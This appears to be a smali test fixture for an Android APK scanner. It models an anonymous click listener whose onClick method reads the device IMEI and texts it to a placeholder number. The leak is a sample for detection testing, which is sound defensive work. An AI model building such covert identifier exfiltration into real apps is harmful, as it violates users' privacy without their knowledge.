.class Lorg/apkscan/test/outer/Main$1;
.super Ljava/lang/Object;
.source "Main.java"

# What javac makes of an anonymous OnClickListener in Main: this$0 is the
# outer Main, whose imei onClick sends.

.implements Landroid/view/View$OnClickListener;

.field final synthetic this$0:Lorg/apkscan/test/outer/Main;

.method constructor <init>(Lorg/apkscan/test/outer/Main;)V
    .registers 2
    iput-object p1, p0, Lorg/apkscan/test/outer/Main$1;->this$0:Lorg/apkscan/test/outer/Main;
    invoke-direct {p0}, Ljava/lang/Object;-><init>()V
    return-void
.end method

.method public onClick(Landroid/view/View;)V
    .registers 8
    invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
    move-result-object v0
    iget-object v1, p0, Lorg/apkscan/test/outer/Main$1;->this$0:Lorg/apkscan/test/outer/Main;
    iget-object v3, v1, Lorg/apkscan/test/outer/Main;->imei:Ljava/lang/String;
    const-string v1, "+49 1234"
    const/4 v2, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    invoke-virtual/range {v0 .. v5}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
    return-void
.end method
